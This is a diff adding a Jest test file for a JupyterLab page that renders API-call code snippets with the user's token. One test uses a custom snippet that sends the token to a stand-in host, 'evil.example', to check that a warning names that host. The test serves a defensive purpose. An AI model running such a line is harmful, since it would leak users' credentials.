@@ -1,0 +1,343 @@
+import { setImmediate } from 'timers';
+
+import { MessageLoop } from '@lumino/messaging';
+import type { VirtualElement } from '@lumino/virtualdom';
+import { h } from '@lumino/virtualdom';
+import { Widget } from '@lumino/widgets';
+
+import { find, findAll, textOf } from '../../ui/__tests__/drawn';
+import { trans } from '../../ui/__tests__/trans';
+import { copyText } from '../../ui/clipboard';
+import { SnippetButtons, SnippetForm } from '../section';
+import {
+  MASK,
+  OtherToken,
+  SECRET,
+  snippetOf,
+  SnippetsPage
+} from './snippetspage';
+
+jest.mock('../../ui/clipboard');
+
+class RenderedForm extends SnippetForm {
+  override render() {
+    return super.render();
+  }
+}
+
+class RenderedButtons extends SnippetButtons {
+  override render() {
+    return super.render();
+  }
+}
+
+const LOCALE = { trans, language: 'en' };
+
+let page: SnippetsPage;
+let form: RenderedForm;
+let buttons: RenderedButtons;
+
+beforeEach(() => {
+  localStorage.clear();
+  jest.mocked(copyText).mockReset();
+  jest.mocked(copyText).mockResolvedValue(true);
+  page = new SnippetsPage();
+  page.registry.add(snippetOf('curl', { kernelLanguage: 'bash' }));
+  page.registry.add(
+    snippetOf('elsewhere', {
+      title: trans.__('Another client'),
+      places: ['anywhere'],
+      note: () => 'JSON has no comments.'
+    })
+  );
+  form = new RenderedForm(page.model, LOCALE);
+  buttons = new RenderedButtons(page.model, LOCALE);
+});
+
+function rendered(view: RenderedForm | RenderedButtons = form): VirtualElement {
+  return h.div(...view.render());
+}
+
+/**
+ * What can be chosen from the list with this label, by its values.
+ */
+function options(label: string): Record<string, string> {
+  return Object.fromEntries(
+    findAll(list(label), 'option').map(option => [
+      option.attrs.value ?? '',
+      textOf(option)
+    ])
+  );
+}
+
+function list(label: string): VirtualElement {
+  const [{ attrs }] = findAll(rendered(), 'label').filter(
+    element => textOf(element) === label
+  );
+  const [select] = findAll(rendered(), 'select').filter(
+    element => element.attrs.id === attrs.htmlFor
+  );
+  return select;
+}
+
+function change(control: VirtualElement, target: object): void {
+  control.attrs.onchange?.call({} as HTMLElement, { target } as never);
+}
+
+/**
+ * Presses a button and waits for what it does.
+ */
+async function press(view: RenderedForm | RenderedButtons, label: string) {
+  const [button] = findAll(rendered(view), 'button').filter(
+    element => textOf(element) === label
+  );
+  expect(button.attrs.type).toBe('button');
+  button.attrs.onclick?.call({} as HTMLElement, {} as MouseEvent);
+  await new Promise(setImmediate);
+}
+
+function labels(): string[] {
+  return findAll(rendered(buttons), 'button').map(textOf);
+}
+
+function warnings(): string[] {
+  return findAll(rendered(), 'div')
+    .filter(({ attrs }) => attrs.className === 'jp-ApiToken-warning')
+    .map(textOf);
+}
+
+describe('the lists', () => {
+  it('have the titles of the snippets and the names of the places', () => {
+    expect(Object.entries(options('Language'))).toEqual([
+      ['curl', 'curl'],
+      ['elsewhere', 'Another client']
+    ]);
+    expect(options('Where it runs')).toEqual({
+      anywhere: 'On any machine',
+      server: 'In this server'
+    });
+  });
+
+  it('choose the place, and the snippet, which may have only one place', () => {
+    change(list('Where it runs'), { value: 'server' });
+    expect(page.model.place).toBe('server');
+    change(list('Language'), { value: 'elsewhere' });
+    expect(page.model.snippet?.id).toBe('elsewhere');
+    expect(findAll(rendered(), 'select')).toHaveLength(1);
+  });
+
+  it('have custom snippets in a group, and the form says what they are', () => {
+    const words = 'A custom snippet, from JupyterLab’s settings.';
+    page.set({ custom: [{ name: 'b', code: 'x' }] });
+    const groups = findAll(list('Language'), 'optgroup');
+    expect(groups.map(textOf)).toEqual(['b']);
+    expect(Object.keys(options('Language'))).toEqual([
+      'curl',
+      'elsewhere',
+      'b'
+    ]);
+    expect(textOf(rendered())).not.toContain(words);
+    page.model.language = 'b';
+    expect(textOf(rendered())).toContain(words);
+  });
+});
+
+describe('“Include the token”', () => {
+  it('is off at first, and includes the token', () => {
+    expect(textOf(rendered())).toContain('Include the token');
+    expect(page.model.includeToken).toBe(false);
+    for (const checked of [true, false]) {
+      change(find(rendered(), 'input'), { checked });
+      expect(page.model.includeToken).toBe(checked);
+    }
+  });
+
+  it.each<[string, () => void, string, string[]]>([
+    [
+      'inside the server',
+      () => (page.model.place = 'server'),
+      'It needs no token in it.',
+      []
+    ],
+    [
+      'where the Hub gave the page none',
+      () => page.token.takeAway(),
+      'set JUPYTER_API_TOKEN to it',
+      ['https://hub.example/hub/token']
+    ],
+    [
+      'where there is neither token nor hub',
+      () => {
+        page.token.takeAway();
+        page.token.hub = null;
+      },
+      'There is no token to put in.',
+      []
+    ]
+  ])('is replaced by a sentence %s', (_, act, words, links) => {
+    act();
+    expect(findAll(rendered(), 'input')).toEqual([]);
+    expect(textOf(rendered())).toContain(words);
+    expect(findAll(rendered(), 'a').map(({ attrs }) => attrs.href)).toEqual(
+      links
+    );
+  });
+});
+
+it('another token is named, and one press goes back to the page’s', async () => {
+  expect(findAll(rendered(), 'button')).toEqual([]);
+  const other = new OtherToken('nightly');
+  page.registry.useToken(other);
+  other.reveal();
+  expect(textOf(rendered())).toContain('“nightly” instead of this page’s');
+  expect(JSON.stringify(rendered())).not.toContain(other.value);
+  await press(form, 'Use this page’s token');
+  expect(page.registry.otherToken).toBeNull();
+  expect(textOf(rendered())).not.toContain('instead of this page’s');
+});
+
+describe('the warnings', () => {
+  it('are about rejected settings, then about each custom snippet', () => {
+    expect(warnings()).toEqual([]);
+    page.set({
+      custom: [{ name: 'a' }, { name: 'b', code: 'x' }],
+      refused: '/custom/0 must be object'
+    });
+    expect(warnings()).toEqual([
+      expect.stringMatching(
+        /^JupyterLab does not accept the settings of the snippets\. Correct them.*Details for a report Message \/custom\/0 must be object$/
+      ),
+      'Own snippet 1, “a”: it has no code.'
+    ]);
+    expect(options('Language')).toHaveProperty('b');
+  });
+
+  it('say that a snippet failed, and leave the choice of another', () => {
+    page.registry.add(
+      snippetOf('broken', {
+        render: ({ token }) => {
+          throw new Error(`No luck with ${token}`);
+        }
+      })
+    );
+    page.model.language = 'broken';
+    page.model.includeToken = true;
+    expect(warnings()).toEqual([
+      expect.stringMatching(
+        `^This snippet failed\\..* Details for a report Message No luck with ${MASK}$`
+      )
+    ]);
+    expect(options('Language')).toHaveProperty('curl');
+    expect(labels()).toEqual([]);
+  });
+
+  it('name other hosts while the code contains the token', () => {
+    page.set({
+      custom: [{ name: 'far', code: 'get https://evil.example/?t=${token}' }]
+    });
+    page.model.language = 'far';
+    expect(warnings()).toEqual([]);
+    page.model.includeToken = true;
+    expect(warnings()).toEqual([expect.stringContaining('evil.example')]);
+  });
+
+  it('say why there is no code for a path', () => {
+    page.panel.set({ apiPath: '/api/..' });
+    expect(warnings()).toEqual([
+      expect.stringMatching(/^There is no code.*climbs out/)
+    ]);
+    expect(textOf(rendered(buttons))).toBe('');
+  });
+});
+
+it.each([
+  ['lite', /open a JupyterLab that has a server/],
+  ['password', /start the server with a token/]
+] as const)(
+  'where no code could call the server there is only a sentence: %s',
+  (absence, words) => {
+    page.token.takeAway();
+    page.panel.learnAbsence(absence);
+    page.set({ custom: [null], refused: 'x' });
+    expect(textOf(rendered())).toMatch(words);
+    for (const tag of ['select', 'input', 'button']) {
+      expect(findAll(rendered(), tag)).toEqual([]);
+    }
+    expect(warnings()).toEqual([]);
+    expect(textOf(rendered(buttons))).toBe('');
+  }
+);
+
+it('no token is rendered in the form, masked or revealed', () => {
+  page.model.includeToken = true;
+  page.panel.set({ isTokenRevealed: true });
+  expect(JSON.stringify(rendered())).not.toContain(SECRET);
+});
+
+it('the controls show what was chosen, whatever they showed before', () => {
+  page.model.includeToken = true;
+  const update = () => MessageLoop.sendMessage(form, Widget.Msg.UpdateRequest);
+  update();
+  const selects = [...form.node.querySelectorAll('select')];
+  const checkbox = form.node.querySelector('input');
+  for (const select of selects) {
+    select.selectedIndex = -1;
+  }
+  update();
+  expect(selects.map(({ value }) => value)).toEqual(['curl', 'anywhere']);
+  expect(checkbox?.checked).toBe(true);
+  page.model.includeToken = false;
+  update();
+  expect(checkbox?.checked).toBe(false);
+});
+
+describe('the buttons', () => {
+  /** What a screen reader announces. */
+  function message(): string {
+    const found = findAll(rendered(buttons), 'p').filter(
+      ({ attrs }) => attrs['aria-live'] === 'polite'
+    );
+    expect(found).toHaveLength(1);
+    return textOf(found[0]);
+  }
+
+  it('copy, and insert what is for notebooks, below the snippet’s note', () => {
+    expect(labels()).toEqual(['Copy snippet', 'Insert into notebook']);
+    expect(message()).toBe('');
+    page.model.language = 'elsewhere';
+    expect(labels()).toEqual(['Copy snippet']);
+    expect(textOf(rendered(buttons))).toContain('JSON has no comments.');
+    expect(copyText).not.toHaveBeenCalled();
+    expect(page.inserter.insert).not.toHaveBeenCalled();
+  });
+
+  it('copy, until something else is chosen', async () => {
+    await press(buttons, 'Copy snippet');
+    expect(copyText).toHaveBeenCalledWith('curl: none');
+    expect(page.inserter.insert).not.toHaveBeenCalled();
+    expect(message()).toBe('Snippet copied.');
+    page.model.language = 'elsewhere';
+    expect(message()).toBe('');
+  });
+
+  it('insert', async () => {
+    await press(buttons, 'Insert into notebook');
+    expect(page.inserter.insert).toHaveBeenCalled();
+    expect(copyText).not.toHaveBeenCalled();
+    expect(message()).toMatch(/^Inserted into Notebook\.ipynb/);
+  });
+
+  it.each([
+    [false, /Reveal the token, then press “Copy snippet” again/],
+    [true, /The text is selected: press/]
+  ])(
+    'say how to copy by hand, with the token revealed: %s',
+    async (isTokenRevealed, words) => {
+      page.panel.copySecret.mockResolvedValue('refused');
+      page.panel.set({ isTokenRevealed });
+      page.model.includeToken = true;
+      await press(buttons, 'Copy snippet');
+      expect(message()).toMatch(words);
+    }
+  );
+});
